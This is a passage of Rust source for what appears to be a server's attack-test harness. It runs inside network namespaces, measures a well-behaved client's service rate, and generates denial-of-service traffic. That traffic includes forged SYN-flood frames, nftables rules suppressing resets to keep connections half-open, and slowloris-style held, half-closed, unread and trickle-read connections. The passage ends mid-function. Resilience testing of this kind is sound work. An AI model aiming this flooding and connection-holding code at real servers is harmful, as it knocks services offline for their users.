//! Attacking a server from a network namespace, as one remote host on its
//! link would, while a well-behaved client measures whether it is still
//! served: what the attack tests and `mirage-bench attack` share.
//!
//! - [`GoodClient`]: a GET every 50 ms on a fresh connection and one every
//!   50 ms on a keep-alive connection, each recorded; a [`Report`] gives
//!   its success rate and longest outage over any stretch of time.
//! - [`Raw`] and [`Segment`]: hand-made Ethernet frames (TCP segments, ARP
//!   packets) sent out of an interface, and frames sniffed off it.
//! - [`Wire`]: the link-layer addresses an attacker on the link learns.
//! - [`Crowd`]: connections that are opened and held: idle, half-closed
//!   (an HTTP/1.0 request whose response is read but whose connection is
//!   never closed) or holding an unfinished request body.
//! - [`suppress_resets`]: nftables rules that drop the host's resets to
//!   SYN-ACKs it did not ask for, so hand-made SYNs stay half-open.

use std::io::{ErrorKind, Read, Write};
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, TcpStream};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use crate::Netns;

/// TCP flags, as in the header's low byte.
pub mod flags {
    pub const FIN: u8 = 0x01;
    pub const SYN: u8 = 0x02;
    pub const RST: u8 = 0x04;
    pub const PSH: u8 = 0x08;
    pub const ACK: u8 = 0x10;
}

/// An Ethernet address.
pub type Mac = [u8; 6];

/// The broadcast Ethernet address.
pub const BROADCAST: Mac = [0xff; 6];

/// Formats an Ethernet address the usual way.
pub fn mac_text(m: &Mac) -> String {
    m.iter().map(|b| format!("{b:02x}")).collect::<Vec<_>>().join(":")
}

fn parse_mac(s: &str) -> Option<Mac> {
    let mut m = [0u8; 6];
    let mut parts = s.split(':');
    for b in m.iter_mut() {
        *b = u8::from_str_radix(parts.next()?, 16).ok()?;
    }
    parts.next().is_none().then_some(m)
}

/// A xorshift64 generator: cheap, seeded, good enough for ports and
/// sequence numbers an attacker picks.
#[derive(Debug, Clone)]
pub struct Rng(u64);

impl Rng {
    /// A generator seeded from the clock and the process.
    pub fn new() -> Rng {
        let t = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| d.as_nanos() as u64)
            .unwrap_or(1);
        Rng((t ^ (u64::from(std::process::id()) << 32)) | 1)
    }

    pub fn next_u64(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}

impl Default for Rng {
    fn default() -> Rng {
        Rng::new()
    }
}

/// The addresses an attacker on the link uses: its interface (in the
/// namespace it runs in), its own addresses and the server's.
#[derive(Debug, Clone)]
pub struct Wire {
    pub ifname: String,
    pub mac: Mac,
    pub ip: Ipv4Addr,
    pub server_mac: Mac,
    pub server: Ipv4Addr,
}

impl Wire {
    /// Learns the interface's address and the server's, from the
    /// namespace's neighbour table (a ping fills it if need be).
    pub fn learn(ns: &Netns, ifname: &str, ip: Ipv4Addr, server: Ipv4Addr) -> Result<Wire, String> {
        let link =
            ns.command("ip").args(["-o", "link", "show", ifname]).output().map_err(|e| format!("ip link: {e}"))?;
        let link = String::from_utf8_lossy(&link.stdout).into_owned();
        let mac = link
            .split("link/ether ")
            .nth(1)
            .and_then(|r| r.split_whitespace().next())
            .and_then(parse_mac)
            .ok_or_else(|| format!("no Ethernet address for {ifname} in {link:?}"))?;
        let neighbour = || -> Option<Mac> {
            let out = ns.command("ip").args(["neigh", "show", &server.to_string(), "dev", ifname]).output().ok()?;
            let text = String::from_utf8_lossy(&out.stdout).into_owned();
            text.split("lladdr ").nth(1)?.split_whitespace().next().and_then(parse_mac)
        };
        let server_mac = match neighbour() {
            Some(m) => m,
            None => {
                let _ = ns.command("ping").args(["-c", "1", "-W", "2", &server.to_string()]).output();
                neighbour().ok_or_else(|| format!("{server} is not in the neighbour table of {ifname} after a ping"))?
            }
        };
        Ok(Wire { ifname: ifname.to_string(), mac, ip, server_mac, server })
    }
}

/// Makes the transmit queue of `ifname` in `ns` long enough that a burst
/// of hand-made frames is not cut by the host (a tap device's queue holds
/// 500 frames by default; beyond, frames are dropped unseen).
pub fn long_queue(ns: &Netns, ifname: &str) -> Result<(), String> {
    ns.ip(&["link", "set", ifname, "txqueuelen", "20000"])
}

/// A raw Ethernet socket on one interface: sends frames as they are and
/// receives every frame that crosses the interface, both ways. Opened in
/// a namespace, usable from any thread.
#[derive(Debug)]
pub struct Raw {
    fd: OwnedFd,
    index: i32,
}

impl Raw {
    /// Opens one on interface `ifname` of namespace `ns`.
    pub fn open(ns: &Netns, ifname: &str) -> Result<Raw, String> {
        let name = ifname.to_string();
        ns.enter(move || Raw::open_here(&name))?
    }

    /// Opens one on interface `ifname` of the calling thread's namespace.
    pub fn open_here(ifname: &str) -> Result<Raw, String> {
        let name = std::ffi::CString::new(ifname).map_err(|e| e.to_string())?;
        // SAFETY: if_nametoindex reads a NUL-terminated string.
        let index = unsafe { libc::if_nametoindex(name.as_ptr()) };
        if index == 0 {
            return Err(format!("{ifname}: {}", std::io::Error::last_os_error()));
        }
        let all = (libc::ETH_P_ALL as u16).to_be();
        // SAFETY: a plain socket call; the descriptor is owned below.
        let fd = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW, i32::from(all)) };
        if fd < 0 {
            return Err(format!("AF_PACKET socket: {}", std::io::Error::last_os_error()));
        }
        // SAFETY: fd is a new descriptor nothing else owns.
        let fd = unsafe { OwnedFd::from_raw_fd(fd) };
        // SAFETY: sockaddr_ll is plain data; all-zero is a valid start.
        let mut addr: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
        addr.sll_family = libc::AF_PACKET as u16;
        addr.sll_protocol = all;
        addr.sll_ifindex = index as i32;
        // SAFETY: binds our socket to a fully initialised address of the
        // size given.
        let r = unsafe {
            libc::bind(
                fd.as_raw_fd(),
                (&addr as *const libc::sockaddr_ll).cast(),
                std::mem::size_of::<libc::sockaddr_ll>() as u32,
            )
        };
        if r != 0 {
            return Err(format!("bind AF_PACKET to {ifname}: {}", std::io::Error::last_os_error()));
        }
        // A large receive buffer, so that a sniffer reading while a flood
        // passes loses little.
        let size: libc::c_int = 8 << 20;
        // SAFETY: setsockopt reads one int of the size given.
        unsafe {
            libc::setsockopt(
                fd.as_raw_fd(),
                libc::SOL_SOCKET,
                libc::SO_RCVBUFFORCE,
                (&size as *const libc::c_int).cast(),
                std::mem::size_of::<libc::c_int>() as u32,
            )
        };
        Ok(Raw { fd, index: index as i32 })
    }

    /// Sends one frame.
    pub fn send(&self, frame: &[u8]) -> Result<(), String> {
        // SAFETY: sockaddr_ll is plain data; all-zero is a valid start.
        let mut addr: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
        addr.sll_family = libc::AF_PACKET as u16;
        addr.sll_ifindex = self.index;
        loop {
            // SAFETY: sends from a live buffer of the length given to a
            // fully initialised address.
            let n = unsafe {
                libc::sendto(
                    self.fd.as_raw_fd(),
                    frame.as_ptr().cast(),
                    frame.len(),
                    0,
                    (&addr as *const libc::sockaddr_ll).cast(),
                    std::mem::size_of::<libc::sockaddr_ll>() as u32,
                )
            };
            if n >= 0 {
                return Ok(());
            }
            let e = std::io::Error::last_os_error();
            match e.raw_os_error() {
                // The interface's queue is full: let it drain.
                Some(libc::ENOBUFS) | Some(libc::EAGAIN) => std::thread::sleep(Duration::from_micros(200)),
                _ => return Err(format!("sending a frame: {e}")),
            }
        }
    }

    /// Sends `frames` at about `per_second` (0: as fast as they go).
    pub fn send_paced(&self, frames: &[Vec<u8>], per_second: u32) -> Result<(), String> {
        let started = Instant::now();
        for (i, f) in frames.iter().enumerate() {
            self.send(f)?;
            if per_second > 0 && i % 64 == 63 {
                let due = started + Duration::from_secs_f64((i + 1) as f64 / f64::from(per_second));
                if let Some(wait) = due.checked_duration_since(Instant::now()) {
                    std::thread::sleep(wait);
                }
            }
        }
        Ok(())
    }

    /// The next frame that crosses the interface, waiting until `deadline`.
    pub fn recv(&self, deadline: Instant) -> Option<Vec<u8>> {
        let mut buf = vec![0u8; 65536];
        loop {
            let left = deadline.checked_duration_since(Instant::now())?;
            let mut pfd = libc::pollfd { fd: self.fd.as_raw_fd(), events: libc::POLLIN, revents: 0 };
            let ms = left.as_millis().clamp(1, 1000) as i32;
            // SAFETY: polls one pollfd we own.
            if unsafe { libc::poll(&mut pfd, 1, ms) } <= 0 {
                continue;
            }
            // SAFETY: receives into a live buffer of the length given.
            let n = unsafe { libc::recv(self.fd.as_raw_fd(), buf.as_mut_ptr().cast(), buf.len(), libc::MSG_DONTWAIT) };
            if n > 0 {
                buf.truncate(n as usize);
                return Some(buf);
            }
        }
    }

    /// Drops every frame received so far.
    pub fn drain(&self) {
        while self.recv(Instant::now() + Duration::from_millis(1)).is_some() {}
    }

    /// The TCP segments that cross the interface until `deadline` and
    /// satisfy `keep`.
    pub fn segments(&self, deadline: Instant, keep: impl Fn(&Segment) -> bool) -> Vec<Segment> {
        let mut out = Vec::new();
        while let Some(f) = self.recv(deadline) {
            if let Some(s) = Segment::parse(&f).filter(|s| keep(s)) {
                out.push(s);
            }
        }
        out
    }
}

fn checksum(parts: &[&[u8]]) -> u16 {
    let mut sum: u32 = 0;
    let mut odd: Option<u8> = None;
    for p in parts {
        for &b in *p {
            match odd.take() {
                Some(hi) => sum += u32::from(u16::from_be_bytes([hi, b])),
                None => odd = Some(b),
            }
        }
    }
    if let Some(hi) = odd {
        sum += u32::from(u16::from_be_bytes([hi, 0]));
    }
    while sum >> 16 != 0 {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// An Ethernet frame around `payload`, padded to the 60-byte minimum.
pub fn ethernet(dst: Mac, src: Mac, ethertype: u16, payload: &[u8]) -> Vec<u8> {
    let mut f = Vec::with_capacity(14 + payload.len().max(46));
    f.extend_from_slice(&dst);
    f.extend_from_slice(&src);
    f.extend_from_slice(&ethertype.to_be_bytes());
    f.extend_from_slice(payload);
    f.resize(f.len().max(60), 0);
    f
}

/// An IPv4 packet (no options, don't-fragment) around `payload`.
pub fn ipv4(src: Ipv4Addr, dst: Ipv4Addr, protocol: u8, id: u16, payload: &[u8]) -> Vec<u8> {
    let total = (20 + payload.len()) as u16;
    let mut h = vec![0x45, 0];
    h.extend_from_slice(&total.to_be_bytes());
    h.extend_from_slice(&id.to_be_bytes());
    h.extend_from_slice(&[0x40, 0, 64, protocol, 0, 0]);
    h.extend_from_slice(&src.octets());
    h.extend_from_slice(&dst.octets());
    let c = checksum(&[&h]);
    h[10..12].copy_from_slice(&c.to_be_bytes());
    h.extend_from_slice(payload);
    h
}

/// An ARP packet (Ethernet and IPv4) in an Ethernet frame.
#[allow(clippy::too_many_arguments)]
pub fn arp(eth_dst: Mac, eth_src: Mac, op: u16, sha: Mac, spa: Ipv4Addr, tha: Mac, tpa: Ipv4Addr) -> Vec<u8> {
    let mut a = vec![0, 1, 0x08, 0x00, 6, 4];
    a.extend_from_slice(&op.to_be_bytes());
    a.extend_from_slice(&sha);
    a.extend_from_slice(&spa.octets());
    a.extend_from_slice(&tha);
    a.extend_from_slice(&tpa.octets());
    ethernet(eth_dst, eth_src, 0x0806, &a)
}

/// A TCP segment in an IPv4 packet.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Segment {
    pub src: SocketAddrV4,
    pub dst: SocketAddrV4,
    pub seq: u32,
    pub ack: u32,
    pub flags: u8,
    pub window: u16,
    pub payload: Vec<u8>,
}

impl Segment {
    /// A SYN from `src` to `dst` with sequence number `seq`.
    pub fn syn(src: SocketAddrV4, dst: SocketAddrV4, seq: u32) -> Segment {
        Segment { src, dst, seq, ack: 0, flags: flags::SYN, window: 64240, payload: Vec::new() }
    }

    /// The sequence number after this segment: what its receiver
    /// acknowledges once it has it.
    pub fn end(&self) -> u32 {
        let syn_fin = u32::from(self.flags & flags::SYN != 0) + u32::from(self.flags & flags::FIN != 0);
        self.seq.wrapping_add(self.payload.len() as u32).wrapping_add(syn_fin)
    }

    pub fn has(&self, f: u8) -> bool {
        self.flags & f == f
    }

    /// The segment in an Ethernet frame; a SYN carries an MSS option, as
    /// every real one does.
    pub fn frame(&self, eth_src: Mac, eth_dst: Mac, ip_id: u16) -> Vec<u8> {
        let options: &[u8] = if self.has(flags::SYN) { &[2, 4, 0x05, 0xb4] } else { &[] };
        let header_len = 20 + options.len();
        let mut t = Vec::with_capacity(header_len + self.payload.len());
        t.extend_from_slice(&self.src.port().to_be_bytes());
        t.extend_from_slice(&self.dst.port().to_be_bytes());
        t.extend_from_slice(&self.seq.to_be_bytes());
        t.extend_from_slice(&self.ack.to_be_bytes());
        t.push(((header_len / 4) as u8) << 4);
        t.push(self.flags);
        t.extend_from_slice(&self.window.to_be_bytes());
        t.extend_from_slice(&[0, 0, 0, 0]);
        t.extend_from_slice(options);
        t.extend_from_slice(&self.payload);
        let len = (t.len() as u16).to_be_bytes();
        let pseudo = [&self.src.ip().octets()[..], &self.dst.ip().octets()[..], &[0, 6], &len[..]].concat();
        let c = checksum(&[&pseudo, &t]);
        t[16..18].copy_from_slice(&c.to_be_bytes());
        ethernet(eth_dst, eth_src, 0x0800, &ipv4(*self.src.ip(), *self.dst.ip(), 6, ip_id, &t))
    }

    /// The TCP segment in an Ethernet frame, if it holds one.
    pub fn parse(f: &[u8]) -> Option<Segment> {
        if f.len() < 34 || f[12..14] != [0x08, 0x00] || f[14] >> 4 != 4 || f[23] != 6 {
            return None;
        }
        let ihl = usize::from(f[14] & 0x0f) * 4;
        let total = usize::from(u16::from_be_bytes([f[16], f[17]]));
        let ip = f.get(14..14 + total)?;
        let t = ip.get(ihl..)?;
        if t.len() < 20 {
            return None;
        }
        let doff = usize::from(t[12] >> 4) * 4;
        let addr = |b: &[u8]| Ipv4Addr::new(b[0], b[1], b[2], b[3]);
        Some(Segment {
            src: SocketAddrV4::new(addr(&ip[12..16]), u16::from_be_bytes([t[0], t[1]])),
            dst: SocketAddrV4::new(addr(&ip[16..20]), u16::from_be_bytes([t[2], t[3]])),
            seq: u32::from_be_bytes([t[4], t[5], t[6], t[7]]),
            ack: u32::from_be_bytes([t[8], t[9], t[10], t[11]]),
            flags: t[13],
            window: u16::from_be_bytes([t[14], t[15]]),
            payload: t.get(doff..)?.to_vec(),
        })
    }
}

/// `count` SYNs from `wire`'s address to `port` on the server, each from
/// its own source port in `ports` (at random, none twice) with a random
/// initial sequence number: connections begun and never finished.
pub fn syn_flood(
    wire: &Wire,
    port: u16,
    ports: std::ops::RangeInclusive<u16>,
    count: usize,
    rng: &mut Rng,
) -> Vec<Vec<u8>> {
    let mut pool: Vec<u16> = ports.collect();
    // A partial Fisher-Yates shuffle: the first `count` are distinct.
    let count = count.min(pool.len());
    for i in 0..count {
        let j = i + (rng.next_u64() as usize) % (pool.len() - i);
        pool.swap(i, j);
    }
    let to = SocketAddrV4::new(wire.server, port);
    pool[..count]
        .iter()
        .map(|&p| {
            Segment::syn(SocketAddrV4::new(wire.ip, p), to, rng.next_u64() as u32).frame(
                wire.mac,
                wire.server_mac,
                rng.next_u64() as u16,
            )
        })
        .collect()
}

/// Source ports of hand-made connections: below the host's ephemeral
/// range (32768 up), so that the host's own connections never use one,
/// and [`suppress_resets`] spares them.
pub const FORGED_PORTS: std::ops::RangeInclusive<u16> = 1024..=32767;

/// Drops the resets that the host in `ns` sends from [`FORGED_PORTS`]:
/// its answers to SYN-ACKs for connections it never opened, which would
/// otherwise end each hand-made half-open connection at once. Needs nft
/// (Debian's nftables).
pub fn suppress_resets(ns: &Netns) -> Result<(), String> {
    let rules = format!(
        "table ip mirage_attack {{\n  chain out {{\n    type filter hook output priority 0; policy accept;\n    tcp sport {}-{} tcp flags & rst == rst drop\n  }}\n}}\n",
        FORGED_PORTS.start(),
        FORGED_PORTS.end()
    );
    nft(ns, &rules)
}

/// Loads nftables `rules` (nft's file syntax) in `ns`. Needs nft (Debian's
/// nftables).
pub fn nft(ns: &Netns, rules: &str) -> Result<(), String> {
    let mut c = ns.command("nft");
    c.args(["-f", "-"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let mut child = c.spawn().map_err(|e| format!("nft: {e} (apt-get install nftables)"))?;
    child.stdin.take().ok_or("nft: no stdin")?.write_all(rules.as_bytes()).map_err(|e| format!("nft: {e}"))?;
    let out = child.wait_with_output().map_err(|e| format!("nft: {e}"))?;
    if !out.status.success() {
        return Err(format!("nft -f: {}", String::from_utf8_lossy(&out.stderr).trim()));
    }
    Ok(())
}

/// Reads one HTTP response from `s` (framed by Content-Length, or by the
/// end of the connection when it has none), with what the previous read
/// left in `buf`; its status.
pub fn read_response(s: &mut TcpStream, buf: &mut Vec<u8>) -> Result<u16, String> {
    let mut chunk = [0u8; 16384];
    loop {
        if let Some(end) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
            let head = String::from_utf8_lossy(&buf[..end]).into_owned();
            let status: u16 = head
                .get(9..12)
                .filter(|_| head.starts_with("HTTP/1."))
                .and_then(|c| c.parse().ok())
                .ok_or_else(|| format!("not a status line: {:?}", &head[..head.len().min(40)]))?;
            let length = head.lines().find_map(|l| {
                let (n, v) = l.split_once(':')?;
                n.trim().eq_ignore_ascii_case("content-length").then(|| v.trim().parse::<usize>().ok())?
            });
            match length {
                Some(len) => {
                    while buf.len() < end + 4 + len {
                        let n = s.read(&mut chunk).map_err(|e| format!("reading a body: {e}"))?;
                        if n == 0 {
                            return Err("the connection closed inside a body".into());
                        }
                        buf.extend_from_slice(&chunk[..n]);
                    }
                    buf.drain(..end + 4 + len);
                }
                None => {
                    s.read_to_end(buf).map_err(|e| format!("reading a body: {e}"))?;
                    buf.clear();
                }
            }
            return Ok(status);
        }
        let n = s.read(&mut chunk).map_err(|e| format!("reading a head: {e}"))?;
        if n == 0 {
            return Err("the connection closed before a response".into());
        }
        buf.extend_from_slice(&chunk[..n]);
    }
}

/// What one stream of requests saw: the end of each request, whether it
/// was served, and why not.
#[derive(Debug, Default)]
struct Log {
    events: Vec<(Instant, bool)>,
    errors: Vec<String>,
}

/// A well-behaved HTTP client: a GET of `path` every 50 ms on a fresh
/// connection, and one every 50 ms on a keep-alive connection (a new one
/// after a failure), each given 2 s to connect and 2 s to answer.
#[derive(Debug)]
pub struct GoodClient {
    stop: Arc<AtomicBool>,
    logs: [Arc<Mutex<Log>>; 2],
    threads: Vec<JoinHandle<()>>,
    started: Instant,
}

/// The interval between a client's requests.
pub const INTERVAL: Duration = Duration::from_millis(50);

/// What the attack tests ask of a good client under attack: this share of
/// its requests served on each of its two streams, and no stretch longer
/// than this without one served. (Unattacked, a request is served every
/// 50 to 60 ms.)
pub const MIN_RATE: f64 = 0.9;
pub const MAX_OUTAGE: Duration = Duration::from_secs(2);
const GOOD_TIMEOUT: Duration = Duration::from_secs(2);

impl GoodClient {
    /// Starts it in `ns`, asking `server` for `path`.
    pub fn start(ns: &Netns, server: SocketAddr, path: &str) -> Result<GoodClient, String> {
        GoodClient::start_from(ns, server, path, None)
    }

    /// As [`GoodClient::start`], its connections from address `from` of
    /// the namespace if given (another host than the attacker's).
    pub fn start_from(
        ns: &Netns,
        server: SocketAddr,
        path: &str,
        from: Option<std::net::IpAddr>,
    ) -> Result<GoodClient, String> {
        let stop = Arc::new(AtomicBool::new(false));
        let logs = [Arc::new(Mutex::new(Log::default())), Arc::new(Mutex::new(Log::default()))];
        let path = path.to_string();
        let started = Instant::now();
        let threads = ns.enter(|| {
            (0..2)
                .map(|i| {
                    let (stop, log, path) = (stop.clone(), logs[i].clone(), path.clone());
                    std::thread::spawn(move || good_loop(server, from, &path, i == 1, &stop, &log))
                })
                .collect::<Vec<_>>()
        })?;
        Ok(GoodClient { stop, logs, threads, started })
    }

    /// When it started.
    pub fn started(&self) -> Instant {
        self.started
    }

    /// What it saw between `from` and `to`.
    pub fn report(&self, from: Instant, to: Instant) -> Report {
        let series = |i: usize, name: &'static str| {
            let log = self.logs[i].lock().unwrap_or_else(|e| e.into_inner());
            Series::of(name, &log, from, to)
        };
        Report { fresh: series(0, "fresh connections"), keep_alive: series(1, "keep-alive") }
    }

    /// What it saw since it started.
    pub fn so_far(&self) -> Report {
        self.report(self.started, Instant::now())
    }

    /// Stops it; what it saw from start to end.
    pub fn stop(&mut self) -> Report {
        self.halt();
        self.report(self.started, Instant::now())
    }

    fn halt(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        for t in self.threads.drain(..) {
            let _ = t.join();
        }
    }
}

impl Drop for GoodClient {
    fn drop(&mut self) {
        self.halt();
    }
}

/// A connection to `server`, from `from` if given.
fn connect_from(server: SocketAddr, from: Option<std::net::IpAddr>, wait: Duration) -> std::io::Result<TcpStream> {
    let Some(from) = from else { return TcpStream::connect_timeout(&server, wait) };
    let s = socket2::Socket::new(socket2::Domain::for_address(server), socket2::Type::STREAM, None)?;
    s.bind(&SocketAddr::new(from, 0).into())?;
    s.connect_timeout(&server.into(), wait)?;
    Ok(s.into())
}

fn good_loop(
    server: SocketAddr,
    from: Option<std::net::IpAddr>,
    path: &str,
    keep_alive: bool,
    stop: &AtomicBool,
    log: &Mutex<Log>,
) {
    let request = if keep_alive {
        format!("GET {path} HTTP/1.1\r\nHost: good-client\r\n\r\n")
    } else {
        format!("GET {path} HTTP/1.1\r\nHost: good-client\r\nConnection: close\r\n\r\n")
    };
    let mut conn: Option<(TcpStream, Vec<u8>)> = None;
    let mut next = Instant::now();
    while !stop.load(Ordering::Relaxed) {
        if let Some(wait) = next.checked_duration_since(Instant::now()) {
            std::thread::sleep(wait);
        }
        next = Instant::now().max(next) + INTERVAL;
        let result = (|| -> Result<(), String> {
            if conn.is_none() {
                let s = connect_from(server, from, GOOD_TIMEOUT).map_err(|e| format!("connect: {e}"))?;
                s.set_read_timeout(Some(GOOD_TIMEOUT)).map_err(|e| e.to_string())?;
                s.set_write_timeout(Some(GOOD_TIMEOUT)).map_err(|e| e.to_string())?;
                s.set_nodelay(true).map_err(|e| e.to_string())?;
                conn = Some((s, Vec::new()));
            }
            let (s, buf) = conn.as_mut().ok_or("no connection")?;
            s.write_all(request.as_bytes()).map_err(|e| format!("write: {e}"))?;
            match read_response(s, buf)? {
                200 => Ok(()),
                other => Err(format!("status {other}")),
            }
        })();
        if result.is_err() || !keep_alive {
            conn = None;
        }
        let mut l = log.lock().unwrap_or_else(|e| e.into_inner());
        l.events.push((Instant::now(), result.is_ok()));
        if let Err(e) = result
            && l.errors.len() < 5
            && !l.errors.contains(&e)
        {
            l.errors.push(e);
        }
    }
}

/// One stream of a [`GoodClient`] over a stretch of time.
#[derive(Debug, Clone)]
pub struct Series {
    pub name: &'static str,
    pub attempts: usize,
    pub served: usize,
    /// The longest time without a request served: between two served
    /// requests, or from the stretch's start to the first, or from the
    /// last to its end.
    pub longest_outage: Duration,
    /// A few of the reasons requests failed.
    pub errors: Vec<String>,
}

impl Series {
    fn of(name: &'static str, log: &Log, from: Instant, to: Instant) -> Series {
        let inside: Vec<_> = log.events.iter().filter(|(t, _)| *t >= from && *t <= to).collect();
        let mut last = from;
        let mut longest = Duration::ZERO;
        for (t, ok) in &inside {
            if *ok {
                longest = longest.max(t.duration_since(last));
                last = *t;
            }
        }
        longest = longest.max(to.saturating_duration_since(last));
        Series {
            name,
            attempts: inside.len(),
            served: inside.iter().filter(|(_, ok)| *ok).count(),
            longest_outage: longest,
            errors: log.errors.clone(),
        }
    }

    /// The share of requests served, 0 to 1.
    pub fn rate(&self) -> f64 {
        if self.attempts == 0 { 0.0 } else { self.served as f64 / self.attempts as f64 }
    }
}

impl std::fmt::Display for Series {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "{}: {}/{} served ({:.1}%), longest outage {:.2} s",
            self.name,
            self.served,
            self.attempts,
            self.rate() * 100.0,
            self.longest_outage.as_secs_f64()
        )
    }
}

/// What a [`GoodClient`] saw over a stretch of time.
#[derive(Debug, Clone)]
pub struct Report {
    pub fresh: Series,
    pub keep_alive: Series,
}

impl Report {
    /// Both streams' requests together: the share served.
    pub fn rate(&self) -> f64 {
        let attempts = self.fresh.attempts + self.keep_alive.attempts;
        if attempts == 0 { 0.0 } else { (self.fresh.served + self.keep_alive.served) as f64 / attempts as f64 }
    }

    /// The longer of the two streams' outages.
    pub fn longest_outage(&self) -> Duration {
        self.fresh.longest_outage.max(self.keep_alive.longest_outage)
    }

    /// Whether each stream was served at least `min_rate` of the time with
    /// no outage longer than `max_outage`; if not, what it saw and why.
    pub fn check(&self, what: &str, min_rate: f64, max_outage: Duration) -> Result<(), String> {
        let mut bad = Vec::new();
        for s in [&self.fresh, &self.keep_alive] {
            if s.rate() < min_rate || s.longest_outage > max_outage {
                bad.push(format!(
                    "{s} (at least {:.0}% and at most {:.1} s wanted); failures: {}",
                    min_rate * 100.0,
                    max_outage.as_secs_f64(),
                    if s.errors.is_empty() { "none".into() } else { s.errors.join("; ") }
                ));
            }
        }
        if bad.is_empty() {
            Ok(())
        } else {
            Err(format!("{what}: the good client was not served: {}", bad.join(" | ")))
        }
    }
}

impl std::fmt::Display for Report {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}; {}", self.fresh, self.keep_alive)
    }
}

/// What a held connection does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Hold {
    /// Connects and sends nothing.
    Idle,
    /// Sends an HTTP/1.0 request, reads the response to its end (the
    /// server closes), and never closes its own side: the server is left
    /// in FIN-WAIT-2.
    HalfClosed,
    /// Sends a request head announcing a 1 MiB body and the first half of
    /// the body, then nothing more.
    Body,
    /// Asks for [`UNREAD_PATH`] and never reads the answer: once the
    /// host's receive buffer is full its window stays closed, and the
    /// server holds the rest of the response.
    Unread,
    /// Asks for [`UNREAD_PATH`] with a receive buffer of a few kilobytes,
    /// and reads [`TRICKLE`] bytes of it at each [`Crowd::sweep`]: always
    /// some progress, never stalled, a response held for minutes.
    Trickle,
}

/// What a [`Hold::Trickle`] connection reads at each sweep.
pub const TRICKLE: usize = 1024;

/// The file a [`Hold::Unread`] connection asks for: the 1 MiB file of the
/// tar image the HTTP tests serve.
pub const UNREAD_PATH: &str = "/a/b/c/big.bin";

/// The body a [`Hold::Body`] connection announces, and what it sends.
pub const BODY_ANNOUNCED: usize = 1 << 20;
pub const BODY_SENT: usize = 512 << 10;

/// How a held connection fared.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Fate {
    /// Open, as the attacker wants.
    Held,
    /// Refused or shed by the server: a reset, a close, a response other
    /// than 200 (503, 408, 413), or no connection at all.
    Refused,
}

/// Connections opened and held against one server. Dropping it closes
/// them all.
#[derive(Debug, Default)]
pub struct Crowd {
    held: Mutex<Vec<(TcpStream, Hold)>>,
    /// Connections opened and still held.
    pub opened: AtomicUsize,
    /// Connections the server refused or shed.
    pub refused: AtomicUsize,
    /// Half-closed connections whose response was a 200.
    pub served: AtomicUsize,
    /// A few of the ways the server refused.
    pub refusals: Mutex<Vec<String>>,
}

impl Crowd {
    pub fn new() -> Crowd {
        Crowd::default()
    }

    fn refuse(&self, why: String) -> Fate {
        self.refused.fetch_add(1, Ordering::Relaxed);
        let mut r = self.refusals.lock().unwrap_or_else(|e| e.into_inner());
        let kind = why.split(':').next().unwrap_or("").to_string();
        if r.len() < 4 && !r.iter().any(|w| w.split(':').next() == Some(kind.as_str())) {
            r.push(why);
        }
        Fate::Refused
    }

    /// Opens one connection of kind `hold` to `server` (from a thread in
    /// the client's namespace) and keeps it.
    pub fn open(&self, server: SocketAddr, hold: Hold) -> Fate {
        let mut s = match connect(server, hold) {
            Ok(s) => s,
            Err(e) => return self.refuse(format!("connect: {e}")),
        };
        let _ = s.set_read_timeout(Some(Duration::from_secs(5)));
        let _ = s.set_write_timeout(Some(Duration::from_secs(2)));
        match hold {
            Hold::Idle => {}
            Hold::HalfClosed => {
                if let Err(e) = s.write_all(b"GET / HTTP/1.0\r\n\r\n") {
                    return self.refuse(format!("write: {e}"));
                }
                let mut all = Vec::new();
                match s.read_to_end(&mut all) {
                    Ok(_) if all.starts_with(b"HTTP/1.1 200 ") || all.starts_with(b"HTTP/1.0 200 ") => {
                        self.served.fetch_add(1, Ordering::Relaxed);
                    }
                    Ok(_) => {
                        let line = String::from_utf8_lossy(&all[..all.len().min(12)]).into_owned();
                        return self.refuse(format!("status: {line:?}"));
                    }
                    Err(e) => return self.refuse(format!("read: {e}")),
                }
            }
            Hold::Body => {
                let head = format!("POST / HTTP/1.1\r\nHost: holder\r\nContent-Length: {BODY_ANNOUNCED}\r\n\r\n");
                let body = vec![b'b'; BODY_SENT];
                // The host's send buffer takes it all at once whatever the
                // server's window: the host keeps offering it.
                if let Err(e) = s.write_all(head.as_bytes()).and_then(|_| s.write_all(&body)) {
                    return self.refuse(format!("write: {e}"));
                }
            }
            Hold::Unread | Hold::Trickle => {
                let head = format!("GET {UNREAD_PATH} HTTP/1.1\r\nHost: holder\r\n\r\n");
                if let Err(e) = s.write_all(head.as_bytes()) {
                    return self.refuse(format!("write: {e}"));
                }
            }
        }
        self.opened.fetch_add(1, Ordering::Relaxed);
        self.held.lock().unwrap_or_else(|e| e.into_inner()).push((s, hold));
        Fate::Held
    }

    /// Looks at every held connection without waiting: those the server
    /// has reset, closed (a half-closed one is closed from the start) or
    /// answered are counted as refused and dropped. How many were.
    pub fn sweep(&self) -> usize {
        let mut held = self.held.lock().unwrap_or_else(|e| e.into_inner());
        let mut gone = Vec::new();
        held.retain(|(s, hold)| {
            let _ = s.set_nonblocking(true);
            let mut one = [0u8; 64];
            let verdict = match s.peek(&mut one) {
                Ok(n) if *hold == Hold::Trickle && n > 0 => trickle(s),
